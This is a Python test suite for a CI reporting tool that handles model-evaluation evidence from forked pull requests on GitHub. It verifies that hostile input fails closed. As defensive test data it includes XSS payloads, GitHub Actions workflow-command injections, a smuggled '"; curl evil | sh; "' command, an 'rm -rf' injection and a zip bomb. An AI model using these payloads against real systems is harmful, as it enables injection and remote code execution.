"""Evidence of a stranger's pull request: whatever is in it, it ends closed, and nothing of it is written or run.

Each case goes through the whole report step, as the job of a `workflow_run` event: it must end with 2 or 4 and leave a
failed check run, a comment that lets nobody in, and no file.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from evidence_cases import ALL, CONTENTS, MAY_BE_TAKEN, NAME, SOUND, as_folder, zipped
from github_fake import READ, FakeGitHub
from github_workbench import BAD, BASE, FORK, HEAD, MERGE, SETTINGS, Workbench, replaced, sound_verdict
from markdown_it import MarkdownIt
from markdown_it.token import Token

from unitrack.ci import evidence
from unitrack.errors import EvidenceError
from unitrack.gate.verdict import Flag, Verdict, encode
from unitrack.registry import LocalRegistry


def tree_of(path: Path) -> set[str]:
    return {str(one) for one in path.rglob("*")}


@pytest.mark.parametrize("case", [name for name in ALL if name not in MAY_BE_TAKEN])
def test_hostile_evidence_ends_closed(bench: Workbench, hub: FakeGitHub, case: str) -> None:
    bench.workflow_run()
    path = ALL[case]()
    before = tree_of(Path())
    done = bench.run("report", "--evidence", str(path), "--patience", "5", "--exit-code")
    assert done.exit_code in (2, 4), done.output
    assert not isinstance(done.exception, Exception) or isinstance(done.exception, SystemExit)
    assert [check["conclusion"] for check in hub.checks.values()] == ["failure"]
    (comment,) = hub.comments_of(7)
    assert "nothing is let in" in comment["body"]
    assert "Gate passed" not in comment["body"] + bench.summary.read_text()
    assert bench.outputs()["verdict"] == "none"
    assert tree_of(Path()) - before <= {"summary.md", "output"}, "it wrote something"
    assert not Path("executed").exists()
    lines = [line.strip() for line in done.output.splitlines()]
    assert not [one for one in lines if one.startswith("::") and not one.startswith(("::add-mask::", "::error file="))]
    assert "##[" not in done.output


def test_there_are_more_than_thirty_such_cases() -> None:
    assert len(ALL) - len(MAY_BE_TAKEN) > 30


def test_sound_evidence_is_reported_where_the_event_says(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.add_pull(8, head="c" * 40)
    done = bench.run("report", "--evidence", str(as_folder(CONTENTS["a number and a repository"]())), "--exit-code")
    assert done.exit_code == 0, done.output
    assert (len(hub.comments_of(7)), len(hub.comments_of(8))) == (1, 0)
    (check,) = hub.checks.values()
    assert (check["head_sha"], check["conclusion"]) == (HEAD, "success")


@pytest.mark.parametrize("kind", ["folder", "zip", "deflated zip"])
@pytest.mark.parametrize("commit", [HEAD, MERGE])
def test_sound_evidence_passes_as_self_reported(bench: Workbench, hub: FakeGitHub, kind: str, commit: str) -> None:
    bench.workflow_run()
    data = encode(sound_verdict(commit=commit))
    compression = zipfile.ZIP_DEFLATED if "deflated" in kind else zipfile.ZIP_STORED
    path = as_folder(data) if kind == "folder" else zipped([(NAME, data)], compression=compression)
    assert bench.run("report", "--evidence", str(path)).exit_code == 0
    (check,) = hub.checks.values()
    assert (check["title"], check["conclusion"]) == ("Gate passed (self-reported)", "success")
    assert "the measurements were not" in hub.comments_of(7)[0]["body"]
    assert len(hub.calls) <= 8


def test_a_claim_of_a_trusted_evaluation_is_not_repeated(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    verdict = sound_verdict()
    sides = {
        side: replaced(
            getattr(verdict, side), runs=tuple(replaced(run, evaluation=f"e{run.run}") for run in getattr(verdict, side).runs)
        )
        for side in ("candidate", "baseline")
    }  # fmt: skip
    bench.run("report", "--evidence", str(as_folder(encode(replaced(verdict, evaluated_by=BASE, **sides)))))
    assert "Self-reported" in hub.comments_of(7)[0]["body"]


def test_a_failed_gate_of_a_stranger_fails(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run(conclusion="failure")
    done = bench.run("report", "--evidence", str(as_folder(encode(sound_verdict(BAD)))), "--exit-code")
    assert done.exit_code == 1
    assert "Gate failed" in hub.comments_of(7)[0]["body"]


def test_a_comparison_with_another_model_than_the_production_one_is_refused(bench: Workbench, hub: FakeGitHub) -> None:
    registry = LocalRegistry(Path(".unitrack/registry"))
    registry.register("digits", run="r1", artifact="model", digest="sha256:" + "0" * 64, commit="9" * 40)
    for stage in ("staging", "production"):
        registry.set_stage("digits", 1, stage, reason="first")
    bench.workflow_run()
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "the production model is of 999" in hub.comments_of(7)[0]["body"]


HOSTILE_NAMES = (
    "</details><script>alert(1)</script>", "<!-- unitrack workflow=x -->", "@everyone #1 GH-1", "![x](https://evil/x.png)",
    "[click](javascript:alert(1))", "`code` | cell | \n| row", "\n::set-output name=verdict::pass", "##[add-mask]a",
    "<img src=x onerror=alert(1)>", "\u202eevil\u2066", "https://evil.example", "$$\\href{x}{y}$$", "```\nfence\n```",
)  # fmt: skip


OUR_MARKUP = re.compile(
    r"(</?(details|summary|sub)>|<summary>[A-Za-z ,()0-9]+</summary>|<!-- unitrack(-of)? [\w=% .-]+ -->|\s)*"
)
LIVE = re.compile(r"@\w|(^|\s)#\d|##\[|://|www\.")


def tokens_of(text: str) -> Iterator[Token]:
    """Parse as CommonMark with tables, as GitHub does, and yield what stands outside of code."""
    for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        yield from block.children or [block]


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_markup_mentions_and_commands_in_texts_are_dead(bench: Workbench, hub: FakeGitHub, text: str) -> None:
    """Texts that need not agree with anything: warnings, flags, the command that reproduces, references."""
    bench.workflow_run()
    verdict = sound_verdict()
    made: Verdict = replaced(
        verdict,
        warnings=(text,),
        flags=(Flag(kind="policy", text=text),),
        reproduce=text,
        baseline=replaced(verdict.baseline, reference=text, model=text),
        candidate=replaced(verdict.candidate, reference=text),
        policy_source=text,
        summary=text,
        lineage=msgspec.structs.replace(verdict.lineage, likely_cause=text, commits=(text,)),
    )
    done = bench.run("report", "--evidence", str(as_folder(encode(made))))
    body, summary = hub.comments_of(7)[0]["body"], bench.summary.read_text()
    for shown in (body, summary):
        for token in tokens_of(shown):
            assert token.type not in ("link_open", "image", "autolink"), token
            if token.type.startswith("html"):
                assert OUR_MARKUP.fullmatch(token.content.strip()), token
            elif token.type == "text":
                assert not LIVE.search(token.content), token
        assert "\u202e" not in shown
        assert "\n::" not in shown
    assert "##[" not in done.output
    assert not [one for one in done.output.splitlines() if one.startswith("::set-output")]
    (check,) = hub.checks.values()
    for annotation in check["annotations"]:
        assert "\n" not in annotation["message"] + annotation["title"]


def test_outputs_of_a_stranger_hold_nothing_but_known_words_and_ids(bench: Workbench) -> None:
    bench.workflow_run()
    verdict = sound_verdict()
    evil = replaced(verdict.baseline, commit='"; curl evil | sh; "')
    bench.run("report", "--evidence", str(as_folder(encode(replaced(verdict, baseline=evil)))))
    assert bench.outputs() == {
        "verdict": "pass", "candidate": HEAD, "baseline": "", "verdict-path": "", "report-path": "",
    }  # fmt: skip


# --- who it is from ---


@pytest.mark.parametrize(
    "changes",
    [
        {"event": "push"},
        {"event": "workflow_run"},
        {"event": "pull_request_target"},
        {"head_sha": "c" * 40},
        {"head_branch": "other"},
        {"head_repository": {"id": 999, "owner": {"login": "stranger"}}},
        {"head_repository": {"id": 999, "owner": {"login": "acme"}}},
    ],
)
def test_an_event_that_fits_no_open_pull_request_reports_nothing(
    bench: Workbench, hub: FakeGitHub, changes: dict[str, Any]
) -> None:
    bench.workflow_run(**changes)
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert (hub.comments, hub.checks, hub.statuses) == ({}, {}, [])
    assert "nothing is let in" in bench.summary.read_text()


@pytest.mark.parametrize("broken", [{"head_sha": "HEAD; rm -rf"}, {"head_repository": None}, {"id": "x"}])
def test_an_event_of_another_shape_is_wrong_use(bench: Workbench, hub: FakeGitHub, broken: dict[str, Any]) -> None:
    bench.workflow_run(**broken)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 2
    assert hub.calls == []


def test_a_closed_pull_request_is_not_reported(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.pulls[7]["state"] = "closed"
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert hub.comments == {}


def test_a_newer_commit_has_its_own_run(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.push(7, "f" * 40)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert (hub.comments, hub.checks) == ({}, {})


def test_two_pull_requests_with_one_head_are_told_apart_by_nobody(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.add_pull(8, head=HEAD, head_repository=FORK, merge_commit=MERGE)
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "have the same head" in bench.summary.read_text()
    assert hub.comments == {}


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_evidence_is_taken_in_a_workflow_run_only(bench: Workbench, hub: FakeGitHub, event: str) -> None:
    hub.add_pull(7, head=HEAD, merge_commit=MERGE)
    payload = {"pull_request": hub.pulls[7], "before": BASE, "after": HEAD}
    bench.event(event, payload, sha=HEAD)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert (hub.comments, hub.checks) == ({}, {})


def test_the_policy_is_the_base_branchs_whatever_lies_here(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.files["main", "unitrack.toml"] = SETTINGS.replace("0.02", "0.001")
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "another policy than the base branch" in hub.comments_of(7)[0]["body"]


@pytest.mark.parametrize("text", [None, "", "project = 'x'\n"])
def test_without_a_policy_on_the_base_branch_there_is_no_verdict(
    bench: Workbench, hub: FakeGitHub, text: str | None
) -> None:
    bench.workflow_run()
    hub.files.pop(("main", "unitrack.toml"))
    if text is not None:
        hub.files["main", "unitrack.toml"] = text
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert [check["conclusion"] for check in hub.checks.values()] == ["failure"]


def test_a_policy_that_cant_be_read_ends_closed(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    bench.set(GITHUB_TOKEN=hub.token(permissions={**READ, "contents": "none", "checks": "write"}))
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert not [check for check in hub.checks.values() if check["conclusion"] == "success"]


def test_evidence_is_neither_kept_nor_cached(bench: Workbench) -> None:
    """A store that is cached from the default branch stays free of what strangers sent."""
    bench.workflow_run()
    bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert not list(Path(".unitrack").rglob("*.json*")) if Path(".unitrack").exists() else True
    bench.event("push", {"before": BASE, "after": HEAD}, sha=HEAD)
    assert bench.run("report", "--exit-code").exit_code == 4, "the store must not have a verdict now"


# --- making it ---


def test_collect_writes_one_file_that_load_takes(bench: Workbench) -> None:
    done = bench.run("collect", "--verdict", bench.verdict(), "--output", "out-evidence")
    assert done.exit_code == 0, done.output
    assert os.listdir("out-evidence") == [NAME]
    assert evidence.load(Path("out-evidence")) == sound_verdict()
    assert bench.run("collect", "--verdict", bench.verdict(), "--output", "out-evidence").exit_code == 0


def test_collect_does_not_write_beside_what_is_there(bench: Workbench) -> None:
    Path("full").mkdir()
    Path("full/secret.txt").write_text("x")
    done = bench.run("collect", "--verdict", bench.verdict(), "--output", "full")
    assert done.exit_code == 4
    assert "name a folder of its own" in done.output
    assert os.listdir("full") == ["secret.txt"]


def test_collect_drops_pictures_before_it_gives_up(bench: Workbench) -> None:
    from unitrack.gate.verdict import Curve

    curve = Curve(
        metric="acc", side="candidate", seed=0, steps=tuple(map(float, range(60_000))), values=(0.123456,) * 60_000
    )
    small = replaced(sound_verdict(), curves=(curve,))
    assert bench.run("collect", "--verdict", bench.verdict(small), "--output", "a").exit_code == 0
    assert evidence.load(Path("a")).curves == ()
    large = replaced(sound_verdict(), warnings=tuple(f"{n}" * 300 for n in range(9_000)))
    assert bench.run("collect", "--verdict", bench.verdict(large), "--output", "b").exit_code == 4
    assert not Path("b").exists()


def test_a_file_that_grows_while_it_is_read_is_bounded(bench: Workbench) -> None:
    path = as_folder(SOUND())
    (path / NAME).write_bytes(b" " * (evidence.LARGEST + 1))
    with pytest.raises(EvidenceError, match="more than 1,048,576 bytes"):
        evidence.load(path)


def test_reading_takes_little_memory_of_a_bomb(bench: Workbench) -> None:
    import tracemalloc

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(NAME, b"0" * (200 << 20))
    Path("bomb.zip").write_bytes(buffer.getvalue())
    tracemalloc.start()
    with pytest.raises(EvidenceError):
        evidence.load(Path("bomb.zip"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 << 20
